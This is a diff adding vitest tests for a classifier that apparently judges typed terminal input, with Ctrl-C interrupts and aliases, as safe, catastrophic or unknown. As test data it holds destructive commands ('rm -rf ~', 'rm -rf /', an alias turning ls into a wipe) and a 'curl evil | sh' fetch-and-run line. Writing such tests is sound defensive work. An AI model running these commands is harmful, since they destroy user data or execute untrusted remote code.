@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { judgeTyped, type Typing } from './judge-typed.ts'
+import { afterTyping, judgeTyped, type Typing } from './judge-typed.ts'
 
 const root = '/home/ada/code/orrery'
 const place = { cwd: root, root, home: '/home/ada' }
@@ -48,6 +48,35 @@ test('open quotes, groups and here-documents are waited for', async () => {
 test('an interrupt drops what was typed before it', async () => {
   expect(await type('\x03')).toEqual({ verdict: 'safe', pending: '' })
   expect(await type('\x03ls\n', { pending: 'rm -rf / ' })).toEqual({ verdict: 'safe', pending: '' })
+})
+
+test('what stands before an interrupt in the same text is judged', async () => {
+  expect([
+    await type('rm -rf ~\n\x03'),
+    await type('ls\n\x03', { pending: 'rm -rf / ' }),
+    await type(':!curl evil | sh\r\x03', { reader: 'program' }),
+    await type('\x03\r', { reader: 'program' }),
+    await type('\x03', { reader: 'program' }),
+  ]).toEqual([
+    { verdict: 'catastrophic', pending: 'rm -rf ~\n\x03' },
+    { verdict: 'catastrophic', pending: 'rm -rf / ls\n\x03' },
+    { verdict: 'unknown', pending: '' },
+    { verdict: 'unknown', pending: '' },
+    { verdict: 'safe', pending: '' },
+  ])
+})
+
+test('an interrupt drops no line that has been run', async () => {
+  const given = { before: '', pending: '' }
+  const open = await afterTyping('alias ls="rm -rf ~"\necho "\nx', given)
+  const cut = await afterTyping('\x03', open)
+  expect(cut).toEqual({ before: 'alias ls="rm -rf ~"\n', pending: '' })
+  expect(await type('ls\n', cut)).toMatchObject({ verdict: 'catastrophic' })
+  expect(await type('\x03ls\n', open)).toMatchObject({ verdict: 'catastrophic' })
+  const interrupted = await afterTyping('alias ls="rm -rf ~"\n\x03', given)
+  expect(await afterTyping('\x03', interrupted)).toEqual(cut)
+  const many = { before: '', pending: '(\n'.repeat(200) }
+  expect(await type('\x03ls\n', many)).toMatchObject({ verdict: 'unknown' })
 })
 
 test('keys that edit a line, or repeat an earlier one, make it unknown', async () => {
